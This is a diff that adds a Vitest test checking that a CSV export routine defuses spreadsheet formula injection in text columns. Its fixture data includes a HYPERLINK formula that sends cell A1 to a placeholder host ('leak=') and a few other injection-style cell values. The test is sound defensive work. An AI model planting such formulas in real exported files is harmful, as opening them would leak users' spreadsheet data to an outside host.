@@ -1,0 +1,26 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { copyCsv } from '../../pipeline/db/csvCopy.js';
+import { withDb, withTempDir } from '../helpers/withDb.js';
+
+test('COPY to CSV neutralises formula-like text in every text column, in column order, and leaves numbers, dates and NULL as they are', async () => {
+  await withDb(async (db) => {
+    await withTempDir(async (dir) => {
+      await db.run(`CREATE TABLE t AS SELECT * FROM (VALUES
+        ('=HYPERLINK("http://x/?leak="&A1,"click")', -2.5, DATE '2026-01-31', '@SUM(1)'),
+        ('plain', 3.0, NULL, NULL),
+        (chr(9) || 'tab', -1.0, DATE '2026-02-01', '+1+cmd')) v(id, amount, day, note)`);
+      const path = join(dir, 'out.csv');
+      await copyCsv(db, 'SELECT * FROM t ORDER BY amount', path);
+      expect(readFileSync(path, 'utf8').trim().split('\n')).toEqual([
+        'id,amount,day,note',
+        `"'=HYPERLINK(""http://x/?leak=""&A1,""click"")",-2.5,2026-01-31,'@SUM(1)`,
+        "'\ttab,-1.0,2026-02-01,'+1+cmd",
+        'plain,3.0,,',
+      ]);
+      // The table itself is unchanged: machines read those values.
+      expect(await db.value(`SELECT id FROM t WHERE amount = -2.5`)).toBe('=HYPERLINK("http://x/?leak="&A1,"click")');
+    });
+  });
+});
